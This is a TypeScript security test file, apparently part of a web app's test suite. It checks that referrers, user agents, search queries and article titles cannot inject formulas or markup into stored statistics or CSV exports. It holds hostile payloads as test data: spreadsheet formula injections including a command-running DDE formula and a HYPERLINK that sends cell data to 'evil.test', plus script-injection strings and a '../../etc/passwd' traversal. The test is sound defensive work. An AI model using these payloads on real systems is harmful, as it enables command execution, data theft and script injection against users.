import { expect, test } from 'vitest';
import { publish } from '../support/articles.ts';
import { describeEachDatabase } from '../support/database.ts';
import { AGENT } from '../support/visits.ts';
import { buildWorld } from '../support/world.ts';
import { AttackReport } from './report.ts';

/** What somebody may say he came from, speaks, reads with or looks for. */
const SAID = [
  ...['=1+1', '+1', '-1', '@SUM(1)', '=cmd|"/C calc"!A0', '=HYPERLINK("https://evil.test?x="&A1)', '\t=1', '\r\n=1', ' =1', '＝1', '﹦1', '﹢1', '⁼1', '＠x'],
  ...['\u200b=1', '\u0000=1', '\u001b=1', '\ufeff=1', 'a\r\n=1', 'a";=1', 'a,=1', "'=1", '"=1', 'a|=1'],
  ...[
    '<script>fell()</script>',
    '"><img src=x onerror=fell()>',
    'javascript:fell()',
    '\u202egnp',
    '\u2066a',
    '../../etc/passwd',
    '__proto__',
    '%s%n',
    '{{7*7}}',
  ],
  ...['direct', 'internal', 'other', 'all', '百度', 'a'.repeat(2000), 'ａ'.repeat(300), '\ud800', '\u0301'.repeat(300)],
];

/** Half a sign cannot be sent. */
const whole = (text: string) => Buffer.from(text).toString();
const KINDS = ['trend', 'page', 'article', 'exam', 'section', 'source', 'device', 'browser', 'language', 'bot', 'search'];
/** What a spreadsheet reads as the beginning of a formula, however wide or hidden. */
const isFormula = (cell: string) => /^[=+\-@\t\r]/.test(cell.normalize('NFKC').replace(/^[\s\p{C}]+/u, '')) && !/^-?\d+$/.test(cell);

/** The cells of a CSV file as a spreadsheet tells them apart; null when it ends within one. */
function cellsOf(text: string): string[][] | null {
  const rows: string[][] = [[]];
  let rest = text.replace(/^\uFEFF/, '');
  while (rest !== '') {
    const [whole, quoted, plain = '', end] = /^(?:"((?:[^"]|"")*)"|([^",\r\n]*))(,|\r\n)/.exec(rest) ?? [];
    if (whole === undefined) return null;
    rows.at(-1)?.push(quoted?.replaceAll('""', '"') ?? plain);
    if (end !== ',') rows.push([]);
    rest = rest.slice(whole.length);
  }
  return rows.slice(0, -1);
}

describeEachDatabase('what readers say of themselves', (fresh) => {
  const report = new AttackReport('said by readers, and spreadsheets');

  test('is a word of the statistics, and never a formula, markup or a row of its own', async () => {
    const world = await buildWorld(fresh);
    await publish(world, { title: 'Read', slug: 'read', exam: 'GRE' });
    for (const [at, said] of SAID.entries()) {
      const own = encodeURIComponent(whole(said));
      const header = said.replace(/[^\t\x20-\x7e]/g, (sign) => encodeURIComponent(whole(sign)));
      const remoteAddress = `10.7.0.${at}`;
      for (const body of [
        { path: `/GRE?utm_source=${own}`, referrer: null },
        { path: '/article/read', referrer: `https://${said}.evil.test/` },
        { path: '/', referrer: `android-app://${said}/` },
        { path: `/${own}`, referrer: said },
      ]) {
        const headers = { 'user-agent': `${AGENT} ${header}`, 'accept-language': header };
        const { statusCode } = await world.app.inject({ method: 'POST', url: '/api/visits', remoteAddress, headers, payload: body });
        report.status(statusCode, `${JSON.stringify(body).slice(0, 200)}`);
      }
      const url = `/api/articles/public?q=${own}`;
      report.status((await world.app.inject({ url, remoteAddress, headers: { 'user-agent': AGENT } })).statusCode, url.slice(0, 200));
    }
    await world.deps.visits.flush();
    const { db } = world.deps;
    const words = [
      ...(await db.selectFrom('visit_days').select('key').where('dimension', '<>', 'page').execute()).map(({ key }) => key),
      ...(await db.selectFrom('searches').select('query').execute()).map(({ query }) => query),
    ];
    expect(words.length).toBeGreaterThan(20);
    for (const word of words)
      if (word.length > 200 || /[\p{Cc}\u202a-\u202e\u2066-\u2069]/u.test(word)) report.add('fell', `kept as it came: ${JSON.stringify(word)}`);

    for (const [at, said] of SAID.entries())
      await world.call('POST', '/articles', { token: await world.as('editor'), body: { title: said, slug: `said-${at}`, exam: 'GRE', summary: said } });
    for (const path of [...KINDS.map((kind) => `/statistics/export?what=${kind}`), '/articles/export']) {
      const { status, text } = await world.call('GET', path, { token: await world.as('editor') });
      report.status(status, path);
      const rows = cellsOf(text) ?? [];
      const formulas = rows.flat().filter(isFormula);
      const isWhole = text.startsWith('\uFEFF') && rows.length > 0 && rows.every((row) => row.length === rows[0]?.length);
      report.add(isWhole && formulas.length === 0 ? 'survived' : 'fell', `${path}: ${rows.length} rows, ${JSON.stringify(formulas)}`);
    }
    expect(report.fell).toEqual([]);
  });
});
